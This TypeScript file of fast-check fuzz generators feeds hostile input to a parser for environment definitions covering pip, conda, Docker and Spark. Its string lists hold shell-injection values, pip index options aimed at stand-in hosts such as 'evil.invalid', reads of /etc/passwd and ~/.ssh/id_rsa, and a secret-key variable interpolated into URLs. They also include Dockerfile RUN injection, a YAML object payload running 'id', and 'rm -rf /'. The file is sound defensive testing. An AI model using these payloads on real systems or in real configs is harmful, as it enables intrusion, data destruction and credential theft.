import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { fc } from "@fast-check/vitest";
import { parse as parseYaml, stringify as stringifyYaml } from "yaml";
import { sharedDir } from "../support/paths.js";

/**
 * Generators of hostile input for load → parse → canonicalize: valid definitions (the conformance
 * and real-world corpus) mutated at random paths, definitions shaped like the schema with random
 * values, arbitrary JSON, and raw YAML text — with strings meant to break quoting, paths, shells,
 * pip's requirement files and Dockerfiles.
 */

export interface Seed {
  file: string;
  dir: string;
  text: string;
  data: Record<string, unknown>;
}

/** Every definition of the shared corpus (conformance cases and real-world examples). */
export function corpus(): Seed[] {
  const out: Seed[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const full = path.join(dir, name);
      if (statSync(full).isDirectory()) walk(full);
      else if (/^env\.(ya?ml|json)$/.test(name)) {
        const text = readFileSync(full, "utf8");
        const data = parseYaml(text) as unknown;
        if (data && typeof data === "object" && !Array.isArray(data)) out.push({ file: full, dir, text, data: data as Record<string, unknown> });
      }
    }
  };
  walk(path.join(sharedDir, "conformance", "cases"));
  walk(path.join(sharedDir, "real-world"));
  return out;
}

/** Strings that have broken parsers, quoting and shells before. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "\n",
  "\r\n",
  "\0",
  "\u2028",
  "\uFEFF",
  "é",
  "😀",
  "$(touch /tmp/envforge-pwned)",
  "`touch /tmp/envforge-pwned`",
  "; touch /tmp/envforge-pwned",
  "&& touch /tmp/envforge-pwned",
  "| touch /tmp/envforge-pwned",
  "numpy\n--index-url http://evil.invalid/simple",
  "numpy --extra-index-url=http://evil.invalid",
  "numpy ; python_version > '3' --global-option=--evil",
  "-e git+https://evil.invalid/x.git#egg=x",
  "-r /etc/passwd",
  "--requirement ../../../etc/shadow",
  "numpy @ file:///etc/passwd",
  "numpy @ https://evil.invalid/${HOME}/x.whl",
  "${HOME}",
  "../../../../etc/passwd",
  "/etc/passwd",
  "~/.ssh/id_rsa",
  "\\\\server\\share",
  "C:\\Windows\\system32",
  "RUN echo hi\nRUN touch /pwned",
  "RUN echo hi \\\nFROM scratch",
  "FROM scratch",
  "ENV X=1",
  "\"; LABEL x=\"y",
  "a\"b'c",
  "%s%s%s%n",
  "{{7*7}}",
  "<script>",
  "*",
  "!!python/object/apply:os.system ['id']",
  "&anchor",
  "*alias",
  "- item",
  "key: value",
  "[a, b]",
  "{a: b}",
  "0x1F",
  "1e309",
  "-0",
  "NaN",
  "null",
  "~",
  "yes",
  "3.10",
  "docker.io/library/python:3.11@sha256:" + "0".repeat(64),
  "python:3.11\nRUN evil",
  "a".repeat(5000),
  "numpy" + "==1".repeat(300),
  "x[" + "a,".repeat(200) + "b]",
  "com.example:app:1.0:${evil}",
  "linux/amd64;rm -rf /",
];

export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom("numpy", "scikit-learn", "conda-forge", "python:3.11", "RUN echo", "com.a:b:1"), fc.constantFrom(...HOSTILE_STRINGS)).map(([a, b]) => `${a}${b}`) },
);

/** Field names of schema v1 (and a few near misses), so random objects reach the parsers. */
const KEYS = [
  "name",
  "version",
  "description",
  "tags",
  "variables",
  "python",
  "docker",
  "spark",
  "pip",
  "pipRequirements",
  "conda",
  "condaFile",
  "userManaged",
  "interpreterPath",
  "channels",
  "dependencies",
  "baseImage",
  "baseDockerfile",
  "steps",
  "platform",
  "buildArgs",
  "packages",
  "repositories",
  "precache",
  "group",
  "artifact",
  "Pip",
  "pip ",
  "$schema",
  "curated",
];

/** A JSON-ish value a definition could hold (bounded, so one run stays small). */
export const leaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
);
export const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  node: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 4, arbitrary: leaf },
    { weight: 1, arbitrary: fc.array(tie("node"), { maxLength: 5 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.oneof(hostileString, fc.constantFrom(...KEYS)), tie("node"), { maxKeys: 4 }) },
  ),
})).node;

/**
 * Mostly the right type (so input gets past the schema into the plugins' parsers), sometimes not:
 * a definition has some twenty fields, and one wrong type anywhere stops it at the schema.
 */
const mostly = <T>(good: fc.Arbitrary<T>, bad: fc.Arbitrary<unknown> = value) => fc.oneof({ weight: 40, arbitrary: good }, { weight: 1, arbitrary: bad });
const str = mostly(hostileString);
const list = <T>(item: fc.Arbitrary<T>, maxLength = 5) => mostly(fc.array(item, { maxLength }));
const name = fc.stringMatching(/^[A-Za-z][A-Za-z0-9._-]{0,12}$/);
const version = fc.array(fc.nat(40), { minLength: 1, maxLength: 4 }).map((parts) => parts.join("."));
/** Requirement-like strings: a valid core with a hostile tail, or a hostile core. */
export const requirement = fc.oneof(
  fc.tuple(name, fc.constantFrom("", "==", ">=", "<", "~=", "!=", "==="), version, fc.constantFrom("", " ; python_version > '3'", "[a,b]", " @ https://x.invalid/a.whl"), fc.option(hostileString, { freq: 3 })).map(
    ([n, op, v, extra, tail]) => `${n}${op === "" ? "" : `${op}${v}`}${extra}${tail ?? ""}`,
  ),
  hostileString,
);

/** A definition shaped like schema v1, every value random. */
export const schemaShaped = fc.record(
  {
    name: mostly(fc.oneof(name, hostileString.filter((x) => x !== ""))),
    version: mostly(fc.oneof(name, fc.integer())),
    variables: mostly(fc.dictionary(hostileString, fc.oneof(hostileString, fc.integer(), fc.boolean()), { maxKeys: 3 })),
    python: fc.record(
      {
        version: mostly(fc.constantFrom("3.11", "3", "3.11.7", "3.12"), str),
        pip: list(requirement, 6),
        pipRequirements: fc.oneof(str, fc.constantFrom("requirements.txt", "loop.txt", "passwd-link.txt", "../requirements.txt", "/etc/passwd", "missing.txt")),
        conda: mostly(
          fc.record({ channels: list(fc.oneof(name, hostileString), 3), dependencies: list(fc.oneof(name, version.map((v) => `numpy=${v}`), hostileString, fc.record({ pip: list(requirement, 3) })), 5) }, { requiredKeys: [] }),
        ),
        condaFile: fc.oneof(str, fc.constantFrom("environment.yml", "../environment.yml", "passwd-link.txt")),
        userManaged: mostly(fc.boolean(), leaf),
        interpreterPath: mostly(fc.constantFrom("/usr/bin/python3", "/opt/py/bin/python3"), str),
      },
      { requiredKeys: [] },
    ),
    docker: fc.record(
      {
        baseImage: fc.oneof(str, fc.constantFrom("python:3.11-slim", "debian", "registry.example:5000/a/b:1@sha256:" + "a".repeat(64))),
        baseDockerfile: fc.oneof(str, fc.constantFrom("Dockerfile", "../Dockerfile", "passwd-link.txt")),
        steps: list(fc.oneof(hostileString, hostileString.map((s) => `RUN ${s}`)), 4),
        platform: fc.oneof(str, fc.constantFrom("linux/amd64", "linux/arm64/v8")),
        buildArgs: mostly(fc.dictionary(fc.oneof(name, hostileString), hostileString, { maxKeys: 3 })),
      },
      { requiredKeys: [] },
    ),
    spark: fc.record(
      {
        packages: list(fc.oneof(fc.tuple(name, name, version).map(([g, a, v]) => `${g}:${a}:${v}`), hostileString, fc.record({ group: str, artifact: str, version: str }, { requiredKeys: [] })), 4),
        repositories: list(fc.oneof(hostileString, fc.constantFrom("https://repo.example/maven2", "file:///tmp/repo")), 3),
        precache: mostly(fc.boolean(), leaf),
      },
      { requiredKeys: [] },
    ),
  },
  { requiredKeys: [] },
);

type Path = Array<string | number>;

function paths(node: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  out.push(prefix);
  if (Array.isArray(node)) node.forEach((v, i) => paths(v, [...prefix, i], out));
  else if (node && typeof node === "object") for (const [k, v] of Object.entries(node)) paths(v, [...prefix, k], out);
  return out;
}

/** One edit of a definition: replace a node, delete it, or duplicate a list item. */
const mutation = fc.record({
  at: fc.nat(),
  kind: fc.constantFrom("replace", "replace", "same-type", "same-type", "same-type", "delete", "duplicate", "wrap"),
  with: value,
  str: hostileString,
});
type Mutation = typeof mutation extends fc.Arbitrary<infer M> ? M : never;

export function mutate(data: unknown, edits: Mutation[]): unknown {
  let root = structuredClone(data);
  for (const edit of edits) {
    const all = paths(root);
    const at = all[edit.at % all.length]!;
    if (at.length === 0) {
      root = edit.kind === "replace" ? edit.with : root;
      continue;
    }
    const parent = at.slice(0, -1).reduce<unknown>((n, k) => (n as Record<string | number, unknown>)[k], root) as Record<string | number, unknown>;
    const key = at[at.length - 1]!;
    if (edit.kind === "replace") parent[key] = edit.with;
    else if (edit.kind === "same-type") {
      // Keep the type so the edit gets past the schema: a string stays a string (appended to, or
      // replaced), a list gains a hostile item.
      const old = parent[key];
      if (typeof old === "string") parent[key] = edit.at % 2 === 0 ? edit.str : `${old}${edit.str}`;
      else if (Array.isArray(old)) old.push(edit.str);
      else if (old && typeof old === "object") (old as Record<string, unknown>)[edit.str] = edit.str;
    }
    else if (edit.kind === "wrap") parent[key] = [parent[key]];
    else if (edit.kind === "delete") {
      if (Array.isArray(parent)) parent.splice(key as number, 1);
      else delete parent[key];
    } else if (Array.isArray(parent)) parent.push(structuredClone(parent[key as number]));
  }
  return root;
}

/** A corpus definition with 1–4 random edits. */
export const mutatedSeed = (seeds: Seed[]) =>
  fc.tuple(fc.nat(seeds.length - 1), fc.array(mutation, { minLength: 1, maxLength: 4 })).map(([i, edits]) => ({ seed: seeds[i]!, data: mutate(seeds[i]!.data, edits) }));

/** Edits of raw text: YAML/JSON broken at the character level. */
export const mutatedText = (seeds: Seed[]) =>
  fc
    .tuple(
      fc.nat(seeds.length - 1),
      fc.array(fc.record({ at: fc.nat(), cut: fc.nat(8), insert: fc.oneof(fc.constantFrom(":", "-", "'", '"', "\n", "  ", "\t", "&a", "*a", "!!", "{", "[", "#", "%YAML 1.1\n---\n", "<<: *a"), hostileString) }), { minLength: 1, maxLength: 4 }),
    )
    .map(([i, edits]) => {
      let text = seeds[i]!.text;
      for (const e of edits) {
        const at = e.at % (text.length + 1);
        text = text.slice(0, at) + e.insert + text.slice(at + e.cut);
      }
      return { seed: seeds[i]!, text };
    });

export function asYaml(data: unknown): string {
  try {
    return stringifyYaml(data);
  } catch {
    return JSON.stringify(data) ?? "null";
  }
}

/**
 * Requirement-file lines a stranger's definition may hold to reach the host: index and find-links
 * options whose values carry `${NAME}` (of a variable the host holds, one it passes, any other),
 * paths with `..`, absolute paths, `file://` URLs and names of symlinks the test lays out
 * (`link-out` points outside the definition's folder, `link-in` inside).
 */
export const STRANGER_VARIABLES = { canary: "ENVFORGE_FUZZ_CANARY", passed: "ENVFORGE_FUZZ_PASSED" } as const;

const variableName = fc.oneof(
  fc.constantFrom(STRANGER_VARIABLES.canary, STRANGER_VARIABLES.passed, "HOME", "PATH", "https_proxy", "AWS_SECRET_ACCESS_KEY"),
  fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,12}$/),
);
const withVariable = (parts: string[]) => fc.tuple(fc.constantFrom(...parts), variableName, fc.constantFrom(...parts)).map(([a, name, b]) => `${a}\${${name}}${b}`);

export const strangerValue = fc.oneof(
  withVariable(["http://127.0.0.1:9/", "https://", "https://u:", "/", "wheels/", "file:///", ""]),
  fc.constantFrom("../outside", "../../outside", "wheels/../../outside", "/etc", "/", "file:///etc", "file://host/x", "file:../outside", "link-out", "link-out/", "link-out/requirements.txt", "../outside/requirements.txt", "link-in", "wheels", "./wheels/.", "~/wheels"),
  fc.tuple(fc.constantFrom("", "./", "../", "/tmp/", "wheels/"), fc.constantFrom("..", "../..", "link-out/..", "x/../..")).map(([a, b]) => `${a}${b}`),
  fc.constantFrom("http://evil.example/simple", "https://files.example/wheels/", "127.0.0.1:9", "evil.example", "http://127.0.0.1:9/simple http://evil.example/simple", "127.0.0.1\tevil.example"),
  hostileString,
);

const quoteMaybe = fc.constantFrom("", "'", '"');
export const strangerLine = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom("--find-links", "-f", "--index-url", "-i", "--extra-index-url", "--trusted-host"), fc.constantFrom(" ", "="), quoteMaybe, strangerValue).map(([flag, sep, q, v]) => `${flag}${flag.startsWith("--") ? sep : " "}${q}${v}${q}`) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("-r", "-c", "--requirement", "--constraint"), strangerValue).map(([flag, v]) => `${flag} ${v}`) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("--no-binary", "--only-binary", "--use-feature"), strangerValue).map(([flag, v]) => `${flag} ${v}`) },
  { weight: 1, arbitrary: strangerValue.map((v) => `envforge-x @ ${v}`) },
  { weight: 1, arbitrary: strangerValue.map((v) => `envforge-x==1.0 --config-settings k=${v}`) },
  { weight: 2, arbitrary: fc.constantFrom("envforge-x==1.0", "--no-index", "--pre") },
);
